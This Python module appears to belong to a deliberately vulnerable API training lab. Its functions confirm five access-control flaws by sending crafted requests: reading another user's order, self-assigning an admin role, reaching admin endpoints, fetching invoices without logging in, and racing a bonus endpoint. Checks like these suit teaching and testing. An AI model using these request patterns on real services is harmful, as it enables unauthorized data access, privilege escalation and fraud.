"""Exploits of missing checks of who may do what."""

import asyncio

from lab.client import Lab


async def _bola(lab: Lab) -> bool:
    return "2 Bob Road" in (await lab.send("GET", "/api/orders/1002", user="alice")).text


async def _mass_assignment(lab: Lab) -> bool:
    await lab.send("PATCH", "/api/profile", user="bob", json={"name": "Bob", "role": "admin"})
    return '"role": "admin"' in (await lab.send("GET", "/api/profile", user="bob")).text


async def _bfla(lab: Lab) -> bool:
    return "admin@example.com" in (await lab.send("GET", "/api/admin/customers", user="bob")).text


async def _no_authentication(lab: Lab) -> bool:
    return "0071" in (await lab.get("/api/invoices")).text


async def _race(lab: Lab) -> bool:
    await lab.send("GET", "/api/wallet", user="alice")
    replies = await asyncio.gather(*(lab.send("POST", "/api/bonus", user="alice") for _ in range(6)))
    return [reply.status for reply in replies].count(200) > 1


PROOFS = {
    "bola": _bola,
    "mass-assignment": _mass_assignment,
    "bfla": _bfla,
    "broken-authentication": _no_authentication,
    "race": _race,
}
